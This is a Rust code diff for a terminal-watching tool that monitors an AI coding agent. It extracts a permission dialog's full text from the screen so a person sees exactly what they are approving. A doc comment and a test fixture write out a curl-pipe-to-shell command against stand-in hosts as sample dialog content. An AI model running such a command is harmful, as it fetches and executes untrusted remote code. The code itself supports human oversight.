@@ -106,7 +106,8 @@ impl Profile {
         Ok(Profile { name: spec.name.clone(), quiet, rules, claude_status, answers, program: spec.program })
     }
 
-    /// The state the screen shows by the highest-priority matching rule, with the matched text.
+    /// The state the screen shows by the highest-priority matching rule, with its text: for
+    /// `waiting`, the dialog's own lines (see [`dialog_text`]), else the matched text.
     pub fn match_screen(&self, rows: &[String]) -> Option<(&'static str, String)> {
         let end = rows.iter().rposition(|r| !r.trim().is_empty()).map_or(0, |i| i + 1);
         self.rules.iter().find_map(|rule| {
@@ -115,9 +116,48 @@ impl Profile {
                 n => end.saturating_sub(n as usize),
             };
             let region = rows[from..end].iter().map(|r| r.trim_end()).collect::<Vec<_>>().join("\n");
-            rule.regex.find(&region).map(|m| (rule.state, m.as_str().trim().to_string()))
+            let m = rule.regex.find(&region)?;
+            let text = match rule.state {
+                // The row the match ends on, counted in the region's lines.
+                "waiting" => dialog_text(&rows[from..end], region[..m.end()].matches('\n').count()),
+                _ => m.as_str().trim().to_string(),
+            };
+            Some((rule.state, text))
         })
     }
+}
+
+/// How many rows above a dialog's question are taken as what it asks about.
+const DIALOG_ROWS: usize = 8;
+
+/// What a dialog asks, as the person should read it before answering: the question's row and
+/// the rows above it up to the dialog's top (a blank row, or a border of box-drawing
+/// characters), at most [`DIALOG_ROWS`], borders stripped, joined with ` · `: `Bash command ·
+/// curl -s https://evil.example/x | sh · Do you want to proceed?`. It comes from the screen,
+/// not from what the program says about itself, so a notification cannot stand in for it.
+pub fn dialog_text(rows: &[String], question_row: usize) -> String {
+    let Some(upto) = rows.get(..=question_row.min(rows.len().saturating_sub(1))) else { return String::new() };
+    let mut lines = Vec::new();
+    for row in upto.iter().rev() {
+        let line = row.trim().trim_matches(|c: char| is_border(c) || c.is_whitespace());
+        match line.is_empty() {
+            // A blank row, or the box's top border: the dialog starts below it.
+            true if row.trim().is_empty() || row.contains(['─', '━', '═']) => break,
+            // A blank row inside the box (`│      │`).
+            true => continue,
+            false => lines.push(line.to_string()),
+        }
+        if lines.len() > DIALOG_ROWS {
+            break;
+        }
+    }
+    lines.reverse();
+    lines.join(" · ")
+}
+
+/// The characters dialogs draw their boxes with (U+2500 to U+257F), and `|`.
+fn is_border(c: char) -> bool {
+    ('\u{2500}'..='\u{257f}').contains(&c) || c == '|'
 }
 
 #[cfg(test)]
@@ -146,6 +186,32 @@ mod tests {
         assert_eq!(p.match_screen(&rows(&["nothing"])), None);
         let blank_below = rows(&["Allow?", "", "", "", "", ""]);
         assert_eq!(p.match_screen(&blank_below).unwrap().0, "waiting", "the region ends at the last row drawn");
+    }
+
+    #[test]
+    fn a_dialogs_text_is_its_own_rows_from_its_top_to_its_question() {
+        let rows = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        let screen = rows(&[
+            "earlier output",
+            "",
+            "╭──────────────────────────────╮",
+            "│ Bash command                 │",
+            "│                              │",
+            "│   curl -s https://x.example | sh │",
+            "│ Do you want to proceed?      │",
+            "│ ❯ 1. Yes                     │",
+        ]);
+        assert_eq!(dialog_text(&screen, 6), "Bash command · curl -s https://x.example | sh · Do you want to proceed?");
+        let spec = ProfileSpec {
+            name: "x".into(),
+            rules: vec![rule("Do you want to proceed", "waiting", 0, 1)],
+            ..Default::default()
+        };
+        let (state, text) = Profile::compile(&spec).unwrap().match_screen(&screen).unwrap();
+        assert_eq!(
+            (state, text.as_str()),
+            ("waiting", "Bash command · curl -s https://x.example | sh · Do you want to proceed?")
+        );
     }
 
     #[test]
